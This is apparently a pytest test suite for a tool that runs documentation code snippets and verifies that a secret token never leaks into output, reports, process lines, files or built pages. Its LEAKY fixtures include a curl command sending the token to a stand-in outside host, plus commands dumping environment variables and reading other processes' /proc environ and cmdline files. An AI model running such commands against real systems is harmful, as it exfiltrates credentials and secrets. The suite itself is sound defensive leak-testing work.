"""A canary in place of the token goes through runs of every kind, and is found nowhere.

The server does all that a server can do to get it out: it repeats what it was sent, in headers and
bodies, in five encodings and in pieces of larger texts, and fails in every way. The search for the
canary is not that of the tool: it decodes whatever could be an encoding, and looks inside.
"""

import base64
import binascii
import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote_to_bytes

import pytest
from tests.conftest import CopySite, RunHugo, thorough

from snipproof.core.exchange import Request, Response
from snipproof.core.failure import Code
from snipproof.languages import find
from snipproof.languages.curl import LANGUAGE as CURL
from snipproof.project.project import Project, load_project
from snipproof.project.selection import select
from snipproof.report.json import write_json
from snipproof.report.junit import write_junit
from snipproof.report.proof import write_proof
from snipproof.run.execution import Options
from snipproof.run.pipeline import run
from snipproof.run.sessions import live_session
from snipproof.targets.http.server import HttpServer
from snipproof.targets.mock.target import MockTarget
from snipproof.targets.writes.guard import GuardedTarget

from .conftest import BASH, LIST, PYTHON

SNIPPROOF = Path(sys.executable).with_name("snipproof")
CANARY = 'cAnArY/7f3+9Zq"tok3n\\of?live=1'
"""A token with characters that every encoding writes otherwise."""

ENCODINGS: dict[str, Callable[[str], str]] = {
    "raw": lambda text: text,
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "url": lambda text: quote(text, safe=""),
    "hex": lambda text: text.encode().hex(),
    "json": lambda text: json.dumps(text)[1:-1].replace("/", r"\/"),
}
_RUN_OF = {
    "base64": re.compile(rb"[A-Za-z0-9+/_-]{16,}"),
    "hex": re.compile(rb"[0-9A-Fa-f]{16,}"),
}
_ESCAPE = re.compile(rb'\\(u[0-9A-Fa-f]{4}|["\\/])')


def decoded(data: bytes) -> Iterator[bytes]:
    """Return a text, and all that it could be the encoding of or could hold an encoding of."""
    yield data
    yield unquote_to_bytes(data)
    yield _ESCAPE.sub(
        lambda found: (
            chr(int(found[1][1:], 16)).encode("utf-8", "replace")
            if found[1][:1] == b"u"
            else found[1]
        ),
        data,
    )
    for found in _RUN_OF["hex"].finditer(data):
        for start in range(2):
            text = found[0][start:]
            yield binascii.unhexlify(text[: len(text) // 2 * 2])
    for found in _RUN_OF["base64"].finditer(data):
        text = found[0].translate(bytes.maketrans(b"-_", b"+/"))
        for start in range(4):
            part = text[start:]
            yield base64.b64decode(part[: len(part) // 4 * 4])


def holds_canary(data: bytes, depth: int = 2, canary: str = CANARY) -> bool:
    """Whether the canary is there in any encoding, or in an encoding of one."""
    for text in decoded(data):
        if canary.encode() in text:
            return True
        deeper = depth > 1 and text != data and len(text) < 100_000
        if deeper and holds_canary(text, depth - 1, canary):
            return True
    return False


@pytest.fixture(scope="module", autouse=True)
def _known_ids(project: Project) -> Iterator[None]:
    """Set what a reader of a live server knows: the token and the ids."""
    known = {**project.world.variables, "LAYER5_TOKEN": project.world.token}
    with pytest.MonkeyPatch.context() as patch:
        for name, value in known.items():
            patch.setenv(name, value)
        yield


@pytest.mark.parametrize("outer", ENCODINGS)
@pytest.mark.parametrize("inner", ENCODINGS)
def test_the_search_finds_what_it_looks_for(outer: str, inner: str) -> None:
    """A canary that is there is found, whatever it was encoded with, and in what it was packed."""
    for before in ("", "x", "xy"):
        hidden = ENCODINGS[outer](f"{before}{ENCODINGS[inner](CANARY)} and more")
        assert holds_canary(f"<{hidden}>".encode())
    assert not holds_canary(b"cAnArY" + CANARY[:-1].encode())


def spoken(request: Request) -> str:
    """Return the token as a server may send it back: itself, in all encodings and packings."""
    token = (request.header("authorization") or "").removeprefix("Bearer ")
    packed = [encode(token) for encode in ENCODINGS.values()]
    packed += [ENCODINGS["base64"](f"{before}Bearer {token}") for before in ("", "a", "ab")]
    return " ".join(packed)


class Parrot:
    """The mock, with the canary as its token, which repeats what it was sent where it may."""

    def __init__(self, mock: MockTarget) -> None:
        self._mock = mock
        self.ways: dict[str, Callable[[Request], Response]] = {
            "fields": self._fields,
            "error": lambda request: Response(500, (), spoken(request).encode()),
            "unauthorized": lambda request: Response(401, (), spoken(request).encode()),
            "not-json": lambda request: Response(
                200, (("Content-Type", "application/json"),), b"{" + spoken(request).encode()
            ),
            "other-fields": lambda request: Response(
                200,
                (("Content-Type", "application/json"),),
                json.dumps({"token": spoken(request), spoken(request): 1}).encode(),
            ),
            "redirect": lambda request: Response(
                302, (("Location", f"/login?token={quote(spoken(request))}"),)
            ),
            "text": lambda request: Response(
                200, (("Content-Type", f"text/{request.header('authorization')}"),), b"x"
            ),
        }
        self.way = "fields"
        self.heard: set[str] = set()
        self._server = HttpServer(lambda request, _: self._answer(request))
        self.url = self._server.url

    def close(self) -> None:
        """Listen no more."""
        self._server.close(0)

    def _answer(self, request: Request) -> Response:
        self.heard.add(request.header("authorization") or "")
        return self.ways[self.way](request)

    def _fields(self, request: Request) -> Response:
        answer = self._mock.fresh().send(request)
        return replace(answer, headers=(*answer.headers, ("X-Token", spoken(request))))


LEAKY = {
    "prints-all": PYTHON + "print(dict(response.headers), response.request.headers)\n",
    "traceback": PYTHON + "raise RuntimeError(response.request.headers, dict(response.headers))\n",
    "verbose": BASH.replace("--silent", "--verbose") + "env\nset\n",
    "argv": BASH + 'tr "\\0" " " < /proc/self/cmdline; ps ax 2>/dev/null; false\n',
    "environment": "import os\n" + PYTHON + "print(os.environ)\nos.abort()\n",
    "parents": BASH + "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '\n",
    "in-the-url": BASH.replace("page=0", "page=$LAYER5_TOKEN"),
    "other-host": BASH + 'curl --silent "http://elsewhere.example/$LAYER5_TOKEN"\n',
    "hang": BASH + "sleep 60\n",
    "syntax": BASH + 'echo "\n',
}
"""Examples that show whatever they can get hold of, or fail; one for each family of failures."""


@pytest.fixture(scope="module")
def folder(copy_project: Callable[..., Path]) -> Path:
    """Return a project of examples that try to get the token out, beside a healthy one."""
    folder = copy_project(LIST)
    shown = []
    for name, source in LEAKY.items():
        example = folder / "snippets" / "leaky" / name
        example.mkdir(parents=True)
        language = find("python") if source.startswith("import") else CURL
        (example / language.filename).write_text(source)
        (example / "example.toml").write_text('operation = "getUserTokens"\ntimeout = 2\n')
        (example / "response.json").write_bytes(
            (folder / "snippets" / LIST / "response.json").read_bytes()
        )
        shown.append(f'{{{{< snippet "leaky/{name}" >}}}}\n')
    with (folder / "content" / "all.md").open("a") as page:
        page.writelines(shown)
    return folder


@pytest.fixture
def parrot(folder: Path) -> Iterator[Parrot]:
    """Return a server that repeats the token."""
    project = load_project(folder)
    parrot = Parrot(MockTarget(project.contract, replace(project.world, token=CANARY)))
    yield parrot
    parrot.close()


def command_lines(over: threading.Event) -> set[bytes]:
    """Collect the command lines of all processes until it is over."""
    found: set[bytes] = set()
    while not over.wait(0.02):
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    found.add((entry / "cmdline").read_bytes())
                except OSError:
                    continue
    return found


def files(*folders: Path) -> Iterator[tuple[Path, bytes]]:
    """Return all files, and the names of all, that a run may have written."""
    for folder in folders:
        for file in folder.rglob("*"):
            yield file, os.fsencode(file)
            if file.is_file() and not file.is_symlink():
                yield file, file.read_bytes()


def watched(folder: Path, home: Path, *arguments: object, token: str = CANARY) -> str:
    """Run the command, watch all command lines meanwhile, and look for the canary everywhere."""
    over = threading.Event()
    seen: set[bytes] = set()
    watcher = threading.Thread(target=lambda: seen.update(command_lines(over)))
    watcher.start()
    done = subprocess.run(
        [SNIPPROOF, "run", *map(str, arguments)],
        cwd=folder,
        env={**os.environ, "LAYER5_TOKEN": token, "TMPDIR": str(home)},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        check=False,
        timeout=120,
    )
    over.set()
    watcher.join()
    assert not holds_canary(done.stdout)
    for line in seen:
        assert not holds_canary(line), line[:80]
    for file, data in files(folder / ".snipproof", home):
        # What was read of the contract is large, and came before the run.
        assert not holds_canary(data, depth=1 if len(data) > 500_000 else 2), file
    for name in ("r.json", "j.xml"):
        if (folder / name).exists():
            assert not holds_canary((folder / name).read_bytes()), name
    assert any(b"curl" in line or b"python" in line for line in seen)
    return done.stdout.decode()


@pytest.mark.parametrize("way", ["fields", *thorough("other-fields", "error")])
def test_live_runs_show_no_token(folder: Path, home: Path, parrot: Parrot, way: str) -> None:
    """Whatever examples print and the server says, no output, file or process has the token."""
    parrot.way = way
    arguments = ("--target", "live", "--url", parrot.url, "-v", "-j", "4")
    said = watched(folder, home, *arguments, "--report", "r.json", "--junit", "j.xml")
    # The canary was there to be found: the server has got it.
    assert f"Bearer {CANARY}" in parrot.heard
    assert "snipproof-placeholder-token" in said
    report = json.loads((folder / "r.json").read_text())
    statuses = {item["status"] for item in report["results"]}
    assert "error" in statuses or "failed" in statuses
    codes = {failure["code"] for item in report["results"] for failure in item["failures"]}
    assert {"secret-in-url", "syntax-error"} <= codes


@pytest.mark.parametrize(
    "arguments", [("--cold",), *thorough(("--allow-writes",), ("--no-cache",))]
)
def test_other_kinds_of_runs_show_no_token(
    folder: Path, home: Path, parrot: Parrot, arguments: tuple[str, ...]
) -> None:
    """A new Python for each snippet, runs that may write, and runs without a cache are the same."""
    live = ("--target", "live", "--url", parrot.url, "-v", "--report", "r.json")
    watched(folder, home, *live, *arguments, LIST, "leaky/traceback", "leaky/environment")
    assert f"Bearer {CANARY}" in parrot.heard


def test_a_token_from_a_file_is_not_shown(folder: Path, home: Path, parrot: Parrot) -> None:
    """A token that is read from a file is in that file alone."""
    file = home.parent / "token"
    file.write_text(CANARY + "\n")
    live = ("--target", "live", "--url", parrot.url, "-v", "--token-file", file)
    watched(folder, home, *live, LIST, "leaky/prints-all", token="")
    assert f"Bearer {CANARY}" in parrot.heard


@pytest.mark.parametrize(
    "url", ["http://elsewhere", *thorough("http://127.0.0.1:9", "https://127.0.0.1:9")]
)
def test_a_server_that_is_not_there_gets_nothing(folder: Path, home: Path, url: str) -> None:
    """Errors on the way to a server do not show what would have been sent."""
    watched(folder, home, "--target", "live", "--url", url, "-v", LIST)


@pytest.mark.parametrize(
    "token",
    [CANARY + "\n\n" + CANARY, f"{CANARY} ", f"\x00{CANARY}"],
    # A worker of pytest may have the name of its test as its title, where it would be found.
    ids=["lines", "space", "nul"],
)
def test_a_token_that_is_none_is_not_shown(
    folder: Path, home: Path, parrot: Parrot, token: str
) -> None:
    """A token that cannot be one is refused without being repeated."""
    file = home.parent / "token"
    file.write_text(token)
    live = ("--target", "live", "--url", parrot.url, "--token-file", file)
    said = watched(folder, home, *live, LIST)
    assert "Traceback" not in said


@pytest.mark.parametrize(
    "way",
    ["fields", "error", "unauthorized", "not-json", "other-fields", "redirect", "text"],
)
def test_whatever_a_server_says_is_clean(
    folder: Path, tmp_path: Path, parrot: Parrot, way: str
) -> None:
    """Evidence, verdicts and reports of each kind of answer are free of the token."""
    parrot.way = way
    project = load_project(folder)
    chosen = select(project, (LIST, "leaky/prints-all", "leaky/verbose"))
    file = tmp_path / "token"
    file.write_text(CANARY)
    session = live_session(project, parrot.url, file)
    report = run(project, chosen, session, Options(2, cache=False))
    assert not holds_canary(repr(report).encode())
    assert f"Bearer {CANARY}" in parrot.heard
    out = tmp_path / "out"
    write_json(report, out / "r.json")
    write_junit(report, out / "j.xml")
    write_proof(report, project.examples, out / "proof.json")
    for name, data in files(out):
        assert not holds_canary(data), name


class Mistaken:
    """The way to a server, with a mistake that has the token in its message."""

    def send(self, request: Any, **_: object) -> None:
        """Go wrong."""
        raise ValueError(f"Invalid header value {request.headers['Authorization']!r}")


CANARY_OF_THE_WORLD = "cAnArY-0f-the-w0rld/7f3+9"


def test_a_mistake_of_the_tool_shows_no_token(folder: Path, tmp_path: Path) -> None:
    """Where the way to the server itself goes wrong, its words do not carry the token out."""
    project = load_project(folder)
    chosen = select(project, (LIST,))
    file = tmp_path / "token"
    file.write_text(CANARY)
    session = live_session(project, "http://127.0.0.1:9", file)
    target = session.new_target()
    assert isinstance(target, GuardedTarget)
    target._server._adapter = Mistaken()  # type: ignore[attr-defined]
    session = replace(session, new_target=lambda: target)
    report = run(project, chosen, session, Options(2, cache=False))
    assert {item.verdict.failures[0].code for item in report.results} == {Code.INTERNAL_ERROR}
    assert "Invalid header" in report.results[0].verdict.failures[0].message
    assert not holds_canary(repr(report).encode())


def test_the_mocks_token_stays_in_the_run(copy_project: Callable[..., Path], home: Path) -> None:
    """The token of the mock's world, though it is public, is in no report, page or output."""
    folder = copy_project(LIST)
    world = folder / "contract" / "world" / "world.yaml"
    world.write_text(world.read_text().replace("layer5-demo-token", CANARY_OF_THE_WORLD))
    reports = ("--report", "r.json", "--junit", "j.xml")
    for arguments in ((), ("--cold", "--no-cache")):
        done = subprocess.run(
            [SNIPPROOF, "run", "-v", *reports, *arguments],
            cwd=folder,
            env={**os.environ, "TMPDIR": str(home)},
            capture_output=True,
            check=False,
        )
        assert done.returncode == 0, done.stdout
        assert not holds_canary(done.stdout + done.stderr, canary=CANARY_OF_THE_WORLD)
        for name in ("r.json", "j.xml", ".snipproof/results.json"):
            data = (folder / name).read_bytes()
            assert not holds_canary(data, canary=CANARY_OF_THE_WORLD), name


def test_the_pages_hold_no_token(
    tmp_path: Path,
    parrot: Parrot,
    copy_project: Callable[..., Path],
    copy_small_site: CopySite,
    run_hugo: RunHugo,
) -> None:
    """The site that is built of a live run's proof has the token on no page and in no file."""
    project = load_project(copy_project(LIST, "organizations/get-org"))
    file = tmp_path / "token"
    file.write_text(CANARY)
    chosen = select(project, ())
    session = live_session(project, parrot.url, file)
    report = run(project, chosen, session, Options(2, cache=False))
    assert report.summary.passed == 4
    site = copy_small_site(tmp_path / "site")
    write_proof(report, project.examples, site / ".snipproof" / "results.json")
    done = run_hugo(site, tmp_path / "public")
    assert done.returncode == 0, done.stdout + done.stderr
    page = (tmp_path / "public/reference/tokens/get-user-tokens/index.html").read_text()
    assert "Verified" in page
    assert parrot.url.removeprefix("http://") in page
    for built, data in files(tmp_path / "public"):
        if "tokens" in str(built) and built.suffix in {".html", ".json", ".md"}:
            assert not holds_canary(data), built
        assert CANARY.encode() not in data, built


def test_a_secret_in_a_snippet_is_not_repeated(
    copy_project: Callable[..., Path], home: Path
) -> None:
    """What looks like a real token is told at its line, and no report or output shows the line."""
    folder = copy_project(LIST)
    token = "ghp_" + "a1B2" * 9
    file = folder / "snippets" / LIST / "curl.sh"
    file.write_text(file.read_text().replace("$LAYER5_TOKEN", token))
    for command in (("check",), ("run", "-v", "--report", "r.json", "--junit", "j.xml")):
        done = subprocess.run(
            [SNIPPROOF, *command],
            cwd=folder,
            env={**os.environ, "TMPDIR": str(home)},
            capture_output=True,
            check=False,
        )
        assert done.returncode == 1
        assert b"curl.sh:3  secret-in-source" in done.stdout
        assert token.encode() not in done.stdout + done.stderr
    for name in ("r.json", "j.xml", ".snipproof/results.json"):
        assert token.encode() not in (folder / name).read_bytes()
